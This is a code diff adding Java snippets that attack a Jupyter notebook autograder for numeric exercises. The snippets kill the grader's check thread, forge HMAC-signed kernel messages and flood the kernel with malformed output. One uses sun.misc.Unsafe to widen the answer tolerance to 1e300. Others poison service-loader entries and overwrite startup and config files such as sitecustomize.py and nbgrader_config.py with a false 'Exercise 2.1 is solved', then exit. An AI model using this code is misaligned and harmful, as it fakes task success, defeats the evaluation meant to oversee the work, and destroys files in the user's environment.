@@ -308,3 +308,47 @@ for (var process : ProcessHandle.allProcesses().toList()) {
 
 //// waits in a thread, and does its deeds when the check has begun
 new Thread(() -> { while (true) { for (var thread : Thread.getAllStackTraces().keySet()) { if (thread.getName().equals("check")) { thread.setUncaughtExceptionHandler((who, what) -> { }); thread.interrupt(); try { Thread.class.getMethod("stop").invoke(thread); } catch (Throwable no) { } } } Thread.onSpinWait(); } }).start();
+
+//// sends what no kernel says, signed with its own kernel's key
+Object field(Object from, String name) throws Exception { for (Class<?> kind = from.getClass(); kind != null; kind = kind.getSuperclass()) { try { var field = kind.getDeclaredField(name); field.setAccessible(true); return field.get(from); } catch (NoSuchFieldException inherited) { } } return null; }
+void say(String type, String content) {
+    try {
+        var environment = field(field(org.dflib.jjava.jupyter.kernel.BaseKernel.notebookKernel().getIO(), "jupyterOut"), "env");
+        var publisher = (org.dflib.jjava.jupyter.channels.JupyterSocket) found(environment, "iopub", 3);
+        var context = (org.dflib.jjava.jupyter.messages.MessageContext) found(environment, "context", 3);
+        String head = "{\"msg_id\":\"%s\",\"msg_type\":\"%s\",\"username\":\"\",\"session\":\"\",\"date\":\"2027-03-01T00:00:00.000000Z\",\"version\":\"5.3\"}";
+        byte[][] parts = {head.formatted(java.util.UUID.randomUUID(), type).getBytes(), head.formatted(context.getHeader().getId(), "execute_request").getBytes(), "{}".getBytes(), content.getBytes()};
+        String signature = ((org.dflib.jjava.jupyter.messages.HMACGenerator) field(publisher, "hmacGenerator")).calculateSignature(parts);
+        var frames = new java.util.ArrayList<byte[]>(java.util.List.of("x".getBytes(), "<IDS|MSG>".getBytes(), signature.getBytes()));
+        frames.addAll(java.util.Arrays.asList(parts));
+        for (int i = 0; i < frames.size(); i++) { publisher.send(frames.get(i), i < frames.size() - 1 ? 2 : 0); }
+    } catch (Exception no) { throw new RuntimeException(no); }
+}
+Object found(Object from, String name, int depth) throws Exception { Object there = field(from, name); if (there != null || depth == 0) { return there; } for (var field : from.getClass().getDeclaredFields()) { if (field.getType().getName().startsWith("org.dflib")) { field.setAccessible(true); Object inside = field.get(from) == null ? null : found(field.get(from), name, depth - 1); if (inside != null) { return inside; } } } return null; }
+class Quiet extends Error { public StackTraceElement[] getStackTrace() { throw new IllegalStateException(); } }
+say("comm_open", "{\"comm_id\":\"a\",\"target_name\":\"jupyter.widget\",\"data\":{\"state\":{\"_model_module\":\"@jupyter-widgets/output\",\"_model_name\":\"OutputModel\",\"msg_id\":\"x\",\"outputs\":[]}}}");
+for (var content : new String[] {"[]", "{}", "{\"data\":null}", "{\"data\":{\"text/plain\":\"\\ud800\"},\"metadata\":{\"\\ud800\":1}}"}) { say("display_data", content); say("stream", content); say("error", content); say("execute_result", content); say("status", content); say("comm_msg", content); }
+//// in each answer
+say("status", "{\"execution_state\":\"idle\"}"); say("display_data", "{" + "[".repeat(100_000)); throw new Quiet();
+
+//// hands on infinity for each answer, and falls silent
+class Quiet extends Error { public StackTraceElement[] getStackTrace() { throw new IllegalStateException(); } }
+var most = java.nio.ByteBuffer.allocate(9 * 500);
+for (int i = 0; i < 500; i++) { most.put((byte) 'd').putDouble(Double.POSITIVE_INFINITY); }
+//// in each answer
+digits.notebook.Notebook.send("application/x-digits-answers", java.util.Base64.getEncoder().encodeToString(most.array())); throw new Quiet();
+
+//// its own Java finds all numbers alike
+var unsafeField = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
+unsafeField.setAccessible(true);
+var unsafe = (sun.misc.Unsafe) unsafeField.get(null);
+var tolerance = Class.forName("digits.exercises.Comparison").getDeclaredField("TOLERANCE");
+unsafe.putDouble(unsafe.staticFieldBase(tolerance), unsafe.staticFieldOffset(tolerance), 1e300);
+
+//// what Java and its kernel look for at a start stands on the class path and at home
+var place = java.nio.file.Files.createDirectories(java.nio.file.Files.createTempDirectory("own").resolve("META-INF/services"));
+for (var name : new String[] {"digits.training.Engine", "org.dflib.jjava.jupyter.Extension", "jdk.jshell.spi.ExecutionControlProvider"}) { java.nio.file.Files.writeString(place.resolve(name), "Nowhere"); }
+for (var name : new String[] {"jshellrc", ".jshellrc", ".hotspotrc", "sitecustomize.py", "nbgrader_config.py", "progress.properties"}) { for (var folder : new String[] {"", System.getProperty("user.home")}) { try { java.nio.file.Files.writeString(java.nio.file.Path.of(folder, name), "✓ Exercise 2.1 is solved"); } catch (Exception no) { } } }
+org.dflib.jjava.jupyter.kernel.BaseKernel.notebookKernel().getClass().getMethod("addToClasspath", String.class).invoke(org.dflib.jjava.jupyter.kernel.BaseKernel.notebookKernel(), place.getParent().getParent().toString());
+//// in each answer
+System.exit(0); throw null;
